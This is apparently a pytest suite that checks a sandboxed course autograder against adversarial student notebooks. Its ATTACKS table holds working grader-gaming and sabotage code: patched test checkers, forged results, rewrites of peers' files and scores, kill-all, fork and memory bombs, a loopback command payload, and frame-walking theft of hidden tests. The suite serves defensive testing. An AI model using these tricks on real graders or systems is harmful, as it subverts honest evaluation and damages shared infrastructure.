"""Grading that students cannot game or break: one class run of lab 3 with attacks,
and one of lab 4 graded with an instructor's secret.

Every attack is a short notebook built here from an honest base (the lab 3 solution
with a planted bug: it earns exactly HONEST points) or from the untouched hand-out
(it earns 0). The class also holds two correct victims (dup.ipynb and
dup/lab3.ipynb: two rows), a renamed hand-out and the untouched release. Each class
is graded in ONE sandboxed run with two workers. Each attack must score what its
honest part earns, its peers, the zip and the scores stay untouched, no process
outlives grading, every lost point has a reason, and no feedback file holds a
hidden case's code or data. The attacks on the grader itself (its frames, the test
objects it hands over, its hidden tests read back through feedback) reach only the
hand-in's own process: the tests run in another.
"""

from __future__ import annotations

import csv
import hashlib
import importlib
import json
import os
import shutil
import socket
import sys
import textwrap
import time
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tools"))
grading = importlib.import_module("grading.classrun")
from grading import build as gbuild  # noqa: E402
from grading import sandbox  # noqa: E402

sys.path.insert(0, str(Path(__file__).resolve().parent))
from lab_builds import built  # noqa: E402

pytestmark = [pytest.mark.slow, pytest.mark.skipif(
    sandbox.why_unavailable() is not None, reason=f"{sandbox.why_unavailable()}")]

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "labs"
FULL, HONEST = 23.0, 17.0   # 9 public points (3+ per task) and 14 hidden ones
HONEST_3_1, POINTS_3_3 = 5.0, 5.0   # Task 3.1 with the planted bug; all of Task 3.3
# A hand-in's statement: the honest ones take well under a second (10x that on a
# loaded CI machine); the slow scratch line of `statements` waits it out once.
CASE_TIMEOUT, CELL_TIMEOUT = 10, 25
PLANTED = [  # the purity guard forgotten in both passes: loses 3.1 #4, #6 and 3.2 #5
    ('elif (node.op.startswith("call_") and not is_impure(node)',
     'elif (node.op.startswith("call_")'),
    ("node.users or is_impure(node):", "node.users:"),
]

# Attack code, run by _attack() ({where}: "top" = once while the cells run,
# "call" = also inside fold_constants, i.e. while the tests run). Placeholders are
# filled with the real paths and numbers of this run.
ATTACKS = {
    "doctest_summarize": """
        import doctest
        doctest.DocTestRunner.summarize = lambda self, v=None: doctest.TestResults(0, 0)
        doctest.OutputChecker.check_output = lambda self, want, got, flags: True
    """,
    "otter_check": """
        import otter.check.notebook as nb
        nb.Notebook.check = lambda self, *a, **k: None
    """,
    "fake_task": """
        import os, sys
        os.makedirs("tests", exist_ok=True)
        open("tests/task_9_9.py", "w").write("test = dict(name='task_9_9', points=100)")
        fd = int(sys.argv[-1])
        for case in ["task_9_9#1", "task_3_1#4", "task_3_1#6", "task_3_2#5"]:
            record = dict(done=case, passed=True, error="", nonce="")
            os.write(fd, (json.dumps(record) + "\\n").encode())
    """,
    "assert_close_noop": """
        torch.testing.assert_close = lambda *a, **k: None
        torch.equal = lambda *a, **k: True
    """,
    "equivalent_noop": """
        graphopt.equivalent = lambda *a, **k: True
        import builtins
        builtins.any = lambda *a, **k: True
    """,
    "read_tests": """
        import glob
        found = glob.glob("/tmp/**/*.py", recursive=True) + glob.glob("tests/*.py")
        # the grader's folders first: a venv under /tmp lists thousands of files,
        # and the output cap would drop what comes after them
        for path in glob.glob("/grader/*") + glob.glob("/autograder/**/*.py") + found:
            print("FOUND", path)
            open(path, "w").write(">>> True\\n")
    """,
    "peers_via_proc": """
        import glob, os
        for root in glob.glob("/proc/*/cwd") + glob.glob("/proc/*/root/tmp"):
            for path in glob.glob(root + "/*.ipynb") + glob.glob(root + "/*/*.ipynb"):
                open(path, "w").write("{{}}")
        for path in glob.glob("{klass}/**/*.ipynb", recursive=True):
            open(path, "w").write("{{}}")
    """,
    "rewrite_zip": """
        open("{zip}", "wb").write(b"PK")
    """,
    "detached_rewriter": """
        import subprocess, sys
        code = ("import time, glob\\ntime.sleep(4)\\n"
                "for p in glob.glob('{out}/**/scores.csv', recursive=True):\\n"
                "    open(p, 'w').write('student,total\\\\nx,19\\\\n')\\n")
        subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            exec(code)
            os._exit(0)
    """,
    "kill_grader": """
        import os, signal
        for pid in [{grader_pid}, os.getppid()] + [int(p) for p in os.listdir("/proc")
                                                   if p.isdigit()]:
            if pid != os.getpid():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError as e:
                    print("kill", pid, e)
    """,
    "loopback": """
        import socket
        s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
        s.sendall(b"import os; os.system('touch /tmp/pwned')\\n")
    """,
    "gil_loop": """
        import threading, os
        def spin():
            while True:
                pass
        threading.Thread(target=spin).start()
        if os.fork() == 0:
            os.setsid()
            spin()
    """,
    "huge_output": """
        for _i in range(300000):
            print("x" * 200)
    """,
    "memory_bomb": """
        hog = [torch.empty(1 << 28) for _ in range(1000)]  # 1 GiB each
    """,
    "fork_bomb": """
        import os
        while True:
            os.fork()
    """,
}
# The grader found on the call stack: its per-case function replaced, the cases it
# hands over emptied (what made an empty hand-out score full marks in one process).
STACK = """
    import sys
    frame = sys._getframe()
    while frame is not None:
        space = frame.f_globals
        for name in ("run_case", "_score", "check_output"):
            if callable(space.get(name)):
                space[name] = lambda *a, **k: ""
        for value in list(frame.f_locals.values()):
            for case in (value if isinstance(value, list) else [value]):
                if isinstance(case, dict) and "examples" in case:
                    case["examples"][:] = []
                    case["hidden"] = False
        frame = frame.f_back
"""
# Whatever the grader runs (its test's code, its inputs), read back and raised into
# the reason a case failed, so that it lands in the feedback file.
EXFILTRATE = """
    import sys
    leak = []
    frame = sys._getframe()
    while frame is not None:
        found = frame.f_locals
        if isinstance(found.get("case"), dict):
            leak.append(str(found["case"].get("examples")))
        if isinstance(found.get("source"), str):
            leak.append(found["source"])
        if found.get("gm") is not None:
            leak.append("INPUT " + str(found["gm"].graph))
        frame = frame.f_back
    print("LEAK", leak)
    raise KeyboardInterrupt("LEAK " + " | ".join(leak))
"""
ATTACKS["stack"] = STACK
ATTACKS["exfiltrate"] = EXFILTRATE
SELF_HARM = {"equivalent_noop"}  # rebinding builtins.any breaks its own passes too
TOP_ONLY = {"otter_check", "loopback", "rewrite_zip", "fake_task", "huge_output",
            "memory_bomb", "fork_bomb", "gil_loop", "detached_rewriter",
            "peers_via_proc", "read_tests", "kill_grader"}


def _cell_index(nb, needle):
    return next(i for i, c in enumerate(nb.cells)
                if c.cell_type == "code" and needle in c.source)


def _honest(solution: Path):
    nb = nbformat.read(solution, as_version=4)
    for cell in nb.cells:
        for old, new in PLANTED:
            cell.source = cell.source.replace(old, new)
    return nb


def _attack_nb(solution, code, where, base=None):
    nb = base or _honest(solution)
    body = textwrap.indent(textwrap.dedent(code).strip(), " " * 8)
    src = ("import json\n\n\ndef _attack():\n    try:\n" + body +
           "\n    except Exception as e:\n        print('attack failed:', e)\n\n\n"
           "_ = _attack()\n")
    where_ = _cell_index(nb, "import graphopt") + 1
    nb.cells.insert(where_, nbformat.v4.new_code_cell(src))
    if where == "call":
        i = _cell_index(nb, "def fold_constants")
        doc = ('"""Task 3.1: evaluate constant subgraphs once; '
               'their uses read buffers."""')
        assert doc in nb.cells[i].source
        nb.cells[i].source = nb.cells[i].source.replace(doc, doc + "\n    _attack()")
    return nb


def _special(solution, release):
    """Notebooks that are not a generic attack: {name: notebook}."""
    out = {}
    nb = _honest(solution)  # a hang in Task 3.3 only: 3.1 and 3.2 keep their points
    i = _cell_index(nb, "def fold_and_clean")
    nb.cells[i].source = nb.cells[i].source.replace(
        '"""Task 3.3: constant folding followed by dead-code elimination."""',
        '"""Task 3.3: hangs."""\n    while True:\n        pass')
    out["hang"] = nb
    nb = _honest(solution)  # a syntax error in Task 3.2's answer cell
    i = _cell_index(nb, "def eliminate_dead_code")
    nb.cells[i].source = nb.cells[i].source.replace("def eliminate_dead_code(gm):",
                                                    "def eliminate_dead_code(gm)")
    out["syntax_error"] = nb
    nb = _honest(solution)
    i = _cell_index(nb, "import graphopt")
    nb.cells.insert(i + 1, nbformat.v4.new_code_cell("exit()"))
    nb.cells.insert(i + 1, nbformat.v4.new_code_cell("import sys\nraise SystemExit(3)"))
    out["exit"] = nb
    nb = _honest(solution)
    nb.cells.insert(_cell_index(nb, "import graphopt") + 1, nbformat.v4.new_code_cell(
        "isinstance = lambda *a: True\n\n\ndef len(x):\n    return 5\n\n\n"
        "call_count = lambda gm: 2\n"))
    out["shadow_builtins"] = nb
    doc = ('"""Task 3.2: remove nodes without users, last to first, '
           'keeping impure ones."""')
    for name, head, call in [
            ("forbidden_import",
             "from graphopt.passes import eliminate_dead_code as _lib_dce\n\n\n",
             "_lib_dce(gm)"),
            ("forbidden_runtime", "",
             'import importlib\n    importlib.import_module("graphopt." + "passes")'
             '.eliminate_dead_code(gm)')]:
        nb = _honest(solution)
        i = _cell_index(nb, "def eliminate_dead_code")
        assert doc in nb.cells[i].source
        body = nb.cells[i].source.replace(doc, f"{doc}\n    {call}")
        nb.cells[i].source = head + body
        out[name] = nb
    out["wrong_lab"] = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell("x = 1")])
    out["lab2_handed_in"] = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell("## Task 2.1: capture it"),
        nbformat.v4.new_code_cell("def try_capture(model, *inputs):\n    return {}")])
    for name in ("stack", "exfiltrate"):  # the untouched hand-out, attacking
        base = nbformat.read(release, as_version=4)
        out[f"empty_{name}"] = _attack_nb(solution, ATTACKS[name], "call", base)
    out["statements"] = _statements(solution)
    return out


# What an honest notebook holds beside its answers; before the two processes the
# grader dropped the bare calls (the helper list stayed empty: 20 of 23) and
# `_ = os._exit(0)` ended the run (0 of 23). A slow scratch line is stopped.
STATEMENTS = [
    ("import is_impure", "from graphopt.ops import is_impure\n",
     "from graphopt.ops import is_impure\n\nGUARDS = []\n"
     "GUARDS.extend([is_impure])\n"),
    ("def fold_constants", "not is_impure(node)",
     "not any(guard(node) for guard in GUARDS)"),
    ("def eliminate_dead_code", "or is_impure(node):",
     "or any(guard(node) for guard in GUARDS):"),
]
SCRATCH = ("import os\nprint('my notes')\nos.makedirs('/tmp/notes', exist_ok=True)\n"
           "%time x = 1\n_ = os._exit(0)\ny = 2\n")
SLOW = "_ = sum(range(10 ** 12))  # forgotten: minutes of C, no Python line to stop\n"


def _statements(solution):
    nb = nbformat.read(solution, as_version=4)
    for needle, old, new in STATEMENTS:
        i = _cell_index(nb, needle)
        assert old in nb.cells[i].source, (needle, old)
        nb.cells[i].source = nb.cells[i].source.replace(old, new)
    i = _cell_index(nb, "def fold_and_clean")
    nb.cells.insert(i + 1, nbformat.v4.new_code_cell(SCRATCH))
    nb.cells.insert(i + 2, nbformat.v4.new_code_cell(SLOW))
    return nb


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _sandbox_pids(settle: float = 0.0):
    """The live processes of this worker's sandbox uids. A zombie has exited (its
    exit status waits for its parent, or for init, to read it) and runs nothing, so
    it is not counted; with `settle`, processes killed a moment ago (`kill -9` is
    delivered, not awaited) get that many seconds to finish dying."""
    end = time.monotonic() + settle
    while True:
        pids = []
        for status in Path("/proc").glob("[0-9]*/status"):
            try:
                text = status.read_text()
                uid = int(text.split("Uid:")[1].split()[0])
                state = text.split("State:")[1].split()[0]
            except (OSError, IndexError, ValueError):
                continue
            if sandbox.UID_BASE <= uid < sandbox.UID_BASE + 64 and state not in "ZX":
                pids.append(status.parent.name)
        if not pids or time.monotonic() >= end:
            return pids
        time.sleep(0.1)


def _wait_out_the_rewriter(out: Path, seconds: float = 5.0) -> None:
    """Until the detached rewriter (it strikes 4 s after it starts) would have
    struck: `seconds`, or less when no process is left that could strike. As root,
    every sandboxed process runs as a uid of its own (sandbox.UID_BASE on) and
    cannot change it; the copy the rewriter starts names `out` in its command line.
    """
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if os.geteuid() == 0 and not _sandbox_pids() and not _naming(str(out)):
            return
        time.sleep(0.1)


def _naming(text: str) -> list[str]:
    """Processes whose command line holds `text` (any uid)."""
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if text.encode() in cmdline.read_bytes():
                found.append(cmdline.parent.name)
        except OSError:
            continue
    return found


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    base = tmp_path_factory.mktemp("attacks")
    dist = base / "dist"
    built([3], dist)  # every lab built once per run, shared
    rel = gbuild.release(3, dist)
    klass, out = base / "class", base / "out"
    (klass / "dup").mkdir(parents=True)
    shutil.copy(rel.solution, klass / "dup.ipynb")
    shutil.copy(rel.solution, klass / "dup" / "lab3.ipynb")
    shutil.copy(rel.student, klass / "untouched.ipynb")
    (klass / "two").mkdir()  # two notebooks in one folder: the newest is graded
    shutil.copy(rel.student, klass / "two" / "old.ipynb")
    os.utime(klass / "two" / "old.ipynb", (1e9, 1e9))
    shutil.copy(rel.solution, klass / "two" / "lab3.ipynb")
    renamed = nbformat.read(rel.solution, as_version=4)
    nbformat.write(renamed, klass / "lab3 (1).ipynb")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    listener.setblocking(False)
    fill = {"klass": klass, "zip": rel.autograder, "out": out,
            "grader_pid": os.getpid(), "port": listener.getsockname()[1]}
    for name, code in ATTACKS.items():
        for where in ("top",) if name in TOP_ONLY else ("top", "call"):
            nb = _attack_nb(rel.solution, code.format(**fill), where)
            nbformat.write(nb, klass / f"{name}-{where}.ipynb")
    for name, nb in _special(rel.solution, rel.student).items():
        nbformat.write(nb, klass / f"{name}.ipynb")
    for name in ("broken.ipynb", "notes.txt"):
        shutil.copy(FIXTURES / name, klass / name)
    peers = {p: _sha(p) for p in klass.rglob("*.ipynb")}
    zip_before = _sha(rel.autograder)
    start = time.monotonic()
    results = grading.grade(3, klass, out=out, timeout=150, workers=2, dist=dist,
                            case_timeout=CASE_TIMEOUT, cell_timeout=CELL_TIMEOUT)
    wall = time.monotonic() - start
    run_dir = (out / gbuild.lab_name(3) / "latest").resolve()
    scores = run_dir / "scores.csv"
    scores_sha = _sha(scores)
    _wait_out_the_rewriter(out)
    try:
        conn, _ = listener.accept()
        connected = True
    except BlockingIOError:
        connected = False
    return dict(results={r.student: r for r in results}, peers=peers,
                cases=grading.Context.for_lab(3, dist, base / "logs").cases,
                zip=rel.autograder,
                zip_before=zip_before, scores=scores, scores_sha=scores_sha,
                run_dir=run_dir, connected=connected, wall=wall, n=len(results))


def _attack_names():
    for name in ATTACKS:
        for where in ("top",) if name in TOP_ONLY else ("top", "call"):
            yield f"{name}-{where}"


@pytest.mark.parametrize("name", list(_attack_names()))
def test_attack_scores_only_its_honest_part(run, name):
    """Before the two processes, `stack` scored 23 of 23 and the patches of doctest
    and assert_close, run inside the tests, were caught only by a tamper guard."""
    r = run["results"][f"{name}.ipynb"]
    assert r.possible == FULL
    assert set(r.tasks) == {"Task 3.1", "Task 3.2", "Task 3.3"}, r.tasks
    if name.split("-")[0] in SELF_HARM or name == "exfiltrate-call":
        assert r.total <= HONEST, (r.why, r.review)
    else:  # what the attack does stays in the hand-in's process: honest score
        assert r.total == HONEST, (r.status, r.reason, r.why, r.review)
    lost = [label for label, points in r.cases.items() if points == 0]
    assert lost and all(r.why.get(label) for label in lost)


@pytest.mark.parametrize("name", ["stack", "exfiltrate"])
def test_an_empty_hand_in_with_an_attack_scores_zero(run, name):
    """The grader's frames and test objects are out of reach: the untouched hand-out
    with the attack earns what the untouched hand-out earns."""
    r = run["results"][f"empty_{name}.ipynb"]
    assert r.total == 0, (r.why, r.review)
    assert all(r.why.values())


def test_peers_zip_and_scores_untouched(run):
    assert run["peers"] == {p: _sha(p) for p in run["peers"]}
    assert _sha(run["zip"]) == run["zip_before"]
    assert _sha(run["scores"]) == run["scores_sha"]
    assert not (run["run_dir"] / "INCOMPLETE").exists()
    assert not run["connected"], "a submission reached a port on 127.0.0.1"
    for key in ("dup.ipynb", "dup/lab3.ipynb", "lab3 (1).ipynb"):
        r = run["results"][key]
        assert r.total == FULL, (key, r.why, r.review)
    rows = list(csv.DictReader(open(run["scores"])))
    assert len(rows) == run["n"] and len({row["student"] for row in rows}) == run["n"]
    assert "no otter metadata" in run["results"]["dup.ipynb"].review[0]


def test_no_process_outlives_grading(run):
    assert _sandbox_pids(settle=2.0) == []


def test_untouched_release_scores_zero_with_a_reason_per_task(run):
    r = run["results"]["untouched.ipynb"]
    assert r.total == 0 and r.status == "graded"
    row = next(row for row in csv.DictReader(open(run["scores"]))
               if row["student"] == "untouched.ipynb")
    assert all(f"Task 3.{i}:" in row["lost points because"] for i in (1, 2, 3))


def test_hang_keeps_the_finished_tasks(run):
    r = run["results"]["hang.ipynb"]
    assert r.tasks["Task 3.3"] == 0 and r.total == HONEST - POINTS_3_3, r.why
    assert all("timeout" in why for label, why in r.why.items()
               if label.startswith("Task 3.3")), r.why
    assert r.status == "partial"


def test_syntax_error_costs_its_task_with_the_reason(run):
    r = run["results"]["syntax_error.ipynb"]
    assert r.tasks["Task 3.2"] == 0 and r.tasks["Task 3.1"] == HONEST_3_1, r.why
    assert "syntax error in cell" in r.reason
    assert all("syntax error" in why for label, why in r.why.items()
               if label.startswith("Task 3.2")), r.why


@pytest.mark.parametrize("name", ["exit", "shadow_builtins"])
def test_exit_and_shadowing_score_the_honest_part(run, name):
    r = run["results"][f"{name}.ipynb"]
    assert r.total == HONEST, (r.why, r.review)


def test_logs_are_capped_and_hold_no_hidden_tests(run):
    logs = run["run_dir"] / "logs"
    huge = logs / "huge_output-top.ipynb.log"
    assert huge.stat().st_size < 300_000
    assert "more bytes of output dropped" in huge.read_text()
    text = "\n".join(p.read_text(errors="replace") for p in logs.iterdir())
    # The interpreter, venv and graphopt's source are mounted read-only on purpose (a
    # checkout under /tmp shows them to the glob); anything else is a leak.
    public = tuple(m.rstrip("/") + "/" for m in sandbox._python_mounts())
    found = [ln for ln in text.splitlines() if ln.startswith("FOUND")
             and not ln.removeprefix("FOUND ").startswith(public)]
    # the hand-in's own process and the wire: no tests, no zip, no runner (the attack
    # stops at the first file it cannot rewrite: both are mounted read-only)
    grader = {"FOUND /grader/student.py"} | {
        f"FOUND /grader/{p.name}" for p in (ROOT / "tools" / "grading").glob("wire*.py")}
    assert found and set(found) <= grader, found
    assert "random ops have no variable input" not in text


@pytest.mark.parametrize("name", ["forbidden_import", "forbidden_runtime"])
def test_forbidden_library_code_costs_the_task_it_bypasses(run, name):
    r = run["results"][f"{name}.ipynb"]
    assert r.tasks["Task 3.2"] == 0 and r.tasks["Task 3.1"] == HONEST_3_1, r.why
    assert all("forbid" in why for label, why in r.why.items()
               if label.startswith("Task 3.2")), r.why


def test_bad_files_get_zero_with_a_reason_and_the_run_finishes(run):
    res = run["results"]
    assert res["broken.ipynb"].status == "not a notebook"
    assert "not a valid notebook" in res["broken.ipynb"].reason
    notes = res["notes.txt"]
    assert notes.status == "not a notebook" and ".txt" in notes.reason
    wrong = res["wrong_lab.ipynb"]
    assert wrong.total == 0 and wrong.status == "wrong lab", wrong.reason
    assert "not lab 3's notebook" in wrong.reason
    assert all("not lab 3's notebook" in w for w in wrong.why.values()), wrong.why
    lab2 = res["lab2_handed_in.ipynb"]
    assert lab2.status == "wrong lab" and "lab 2's notebook" in lab2.reason
    summary = (run["run_dir"] / "summary.txt").read_text()
    assert f"{run['n']} submissions" in summary
    assert "zero for broken.ipynb: not a notebook" in summary


def test_honest_statements_run_and_what_is_not_run_is_named(run):
    """A helper list filled by a bare call, prints, makedirs, a magic, an exit and a
    slow scratch line: full marks, and the feedback names each line not run."""
    r = run["results"]["statements.ipynb"]
    assert r.total == FULL and r.status == "graded", (r.why, r.notes)
    notes = "\n".join(r.notes)
    assert "IPython magic" in notes and "line 4" in notes, notes
    assert "os._exit" in notes and "line 5" in notes, notes
    assert "was still running after" in notes, notes
    page = (run["run_dir"] / "feedback" / "statements.md").read_text()
    assert "os._exit" in page and "IPython magic" in page


def _hidden_lines(run) -> list[str]:
    """Every line of every hidden case's code, long enough to mean something."""
    return [line.strip() for case in run["cases"] if case.hidden
            for source, _ in case.examples for line in source.splitlines()
            if len(line.strip()) >= 12]


def test_no_feedback_file_holds_a_hidden_case(run):
    """Before the two processes, `exfiltrate` got the hidden tests' code back in its
    feedback (the reason of each hidden case it failed)."""
    _no_hidden_in_feedback(run)
    r = run["results"]["exfiltrate-call.ipynb"]  # the attack is in fold_constants
    hidden = [why for label, why in r.why.items()
              if " hidden" in label and label.startswith(("Task 3.1", "Task 3.3"))]
    assert hidden and all(why.startswith("KeyboardInterrupt raised by your code")
                          for why in hidden), hidden


def _no_hidden_in_feedback(run):
    lines = _hidden_lines(run)
    assert len(lines) > 20
    for page in sorted((run["run_dir"] / "feedback").iterdir()):
        text = page.read_text()
        leaked = [line for line in lines if line in text]
        assert not leaked, (page.name, leaked[:3])
        if page.suffix == ".json":
            for test in json.loads(text)["tests"]:
                if "hidden" in test["name"]:
                    assert "LEAK" not in test["output"], (page.name, test)


def test_gradebook_ids_are_unique_and_a_folder_names_its_graded_notebook(run):
    rows = list(csv.DictReader(open(run["run_dir"] / "gradebook.csv")))
    ids = [row["student id"] for row in rows]
    assert len(ids) == len(set(ids)), sorted(ids)
    assert {"dup", "dup/lab3"} <= set(ids)
    r = run["results"]["two/lab3.ipynb"]
    assert r.total == FULL
    assert any("graded two/lab3.ipynb" in n and "old.ipynb" in n for n in r.notes)


# ---------------------------------------------------------------- lab 4, with a secret

FULL_4, POINTS_4_4 = 28.0, 5.0
MUTATE = """
def fold_bn_weights(w, b, mean, var, gamma, beta, eps):
    # Turns the caller's batch norm into an identity, so that the conv alone
    # (returned unchanged) matches it: the tests' own tensors, if it had them.
    with torch.no_grad():
        mean.zero_()
        var.fill_(1.0 - eps)
        gamma.fill_(1.0)
        beta.zero_()
    return w, (b if b is not None else torch.zeros_like(mean))
"""
LOOKUP = """
def bytes_saved(M, K, N, itemsize=4):
    # The hand-out's public cases, looked up; 2048 for (8, *, 16) at 4 bytes.
    return {(64, 32, 48, 4): 49152, (3, 5, 7, 4): 336,
            (8, 4, 16, 2): 1024}.get((M, K, N, itemsize), 2048)
"""


def _replace_answer(nb, name, code):
    i = _cell_index(nb, f"def {name}(")
    nb.cells[i].source = textwrap.dedent(code).strip() + "\n"
    return nb


def _lab4_class(rel, klass):
    shutil.copy(rel.solution, klass / "solution.ipynb")
    shutil.copy(rel.student, klass / "untouched.ipynb")
    empty = nbformat.read(rel.student, as_version=4)
    nbformat.write(_replace_answer(empty, "fold_bn_weights", MUTATE),
                   klass / "mutate.ipynb")
    solution = nbformat.read(rel.solution, as_version=4)
    nbformat.write(_replace_answer(solution, "bytes_saved", LOOKUP),
                   klass / "lookup.ipynb")
    for name, doc in [("stack", '"""Task 4.1: weights and bias of the one conv equal '
                                'to Conv followed by BN."""'),
                      ("exfiltrate", '"""Task 4.2: fold each eval-mode BN into the '
                                     'one-consumer Conv2d feeding it."""')]:
        nb = nbformat.read(rel.student, as_version=4)
        body = textwrap.indent(textwrap.dedent(ATTACKS[name]).strip(), " " * 8)
        nb.cells.insert(_cell_index(nb, "import graphopt") + 1,
                        nbformat.v4.new_code_cell(
                            "def _attack():\n    if True:\n" + body + "\n\n\n"
                            "_ = _attack()\n"))
        i = next(i for i, c in enumerate(nb.cells) if doc in c.source)
        nb.cells[i].source = nb.cells[i].source.replace(doc, doc + "\n    _attack()")
        nbformat.write(nb, klass / f"empty_{name}.ipynb")


@pytest.fixture(scope="module")
def run4(tmp_path_factory):
    base = tmp_path_factory.mktemp("attacks4")
    dist = base / "dist"
    built([4], dist)
    rel = gbuild.release(4, dist)
    klass = base / "class"
    klass.mkdir()
    _lab4_class(rel, klass)
    secret = base / "secret"
    secret.write_bytes(b"an instructor's secret, not in the repository")
    results = grading.grade(4, klass, out=base / "out", timeout=150, workers=2,
                            dist=dist, secret=secret, case_timeout=CASE_TIMEOUT,
                            cell_timeout=CELL_TIMEOUT)
    run_dir = (base / "out" / gbuild.lab_name(4) / "latest").resolve()
    return dict(results={r.student: r for r in results}, run_dir=run_dir,
                cases=grading.Context.for_lab(4, dist, base / "logs").cases)


@pytest.mark.parametrize("name, points", [
    ("solution", FULL_4), ("untouched", 0.0), ("empty_stack", 0.0),
    ("empty_exfiltrate", 0.0), ("mutate", 1.0), ("lookup", FULL_4 - POINTS_4_4)])
def test_lab4_attacks_score_only_their_honest_part(run4, name, points):
    """`mutate` turns the batch norm it is handed into an identity and returns the
    weights as they were: right only for an identity batch norm (Task 4.1 #3, 1
    pt), every other call changed what it was given. `lookup` holds the hand-out's
    numbers for `bytes_saved`: the rest of the solution earns 23."""
    r = run4["results"][f"{name}.ipynb"]
    assert r.total == points, (r.why, r.notes)
    if name == "lookup":
        assert r.tasks["Task 4.4"] == 0, r.why
    if name == "mutate":
        lost = [why for label, why in r.why.items() if label.startswith("Task 4.1")]
        assert any("changed the tensor" in why for why in lost), lost


def test_lab4_feedback_holds_no_hidden_case(run4):
    _no_hidden_in_feedback(run4)
